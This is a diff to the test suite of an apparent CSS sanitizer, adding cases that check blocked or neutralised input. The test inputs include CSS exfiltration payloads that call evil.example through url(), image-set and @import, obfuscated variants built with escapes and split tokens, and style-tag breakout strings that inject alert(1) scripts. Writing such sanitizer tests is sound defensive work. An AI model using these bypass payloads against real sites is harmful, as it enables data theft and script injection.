@@ -28,6 +28,11 @@ describe('is taken out', () => {
     ['.a{background:image-set("https://evil.example/a.png" 1x)}', '.a{}'],
     ['input[value^="a"]{background:URL( \'http://evil.example/a\' )}', 'input[value^="a"]{}'],
     ['.a{color:red}/* never closed', '.a{color:red}'],
+    ['.a{background:url("/\t/evil.example/a.png")}', '.a{}'],
+    ['.a{background:url("/\\9/evil.example/a.png")}', '.a{}'],
+    ['.a{background:\\75\r\nrl(https://evil.example)}', '.a{}'],
+    ['background:ur}l(//evil.example)', 'background:ur l(//evil.example)'],
+    ['@im}port "//evil.example/a.css"', '@im port "//evil.example/a.css"'],
   ])('%s', (css, safe) => {
     expect(safeCss(css)).toBe(safe)
   })
@@ -36,6 +41,8 @@ describe('is taken out', () => {
 describe('cannot break out', () => {
   it.each([
     ['.a{color:red}</style><script>alert(1)</script>', '.a{color:red}<\\/style><script>alert(1)<\\/script>'],
+    ['.a{}<<!--/style><script>alert(1)</script>', '.a{}< /style><script>alert(1)<\\/script>'],
+    ['/}* {*/} b{}', '/ * {*/} b{}'],
     ['}}.a{color:red}', '.a{color:red}'],
     ['.a{color:red', '.a{color:red}'],
     ['@media print{.a{color:red}', '@media print{.a{color:red}}'],
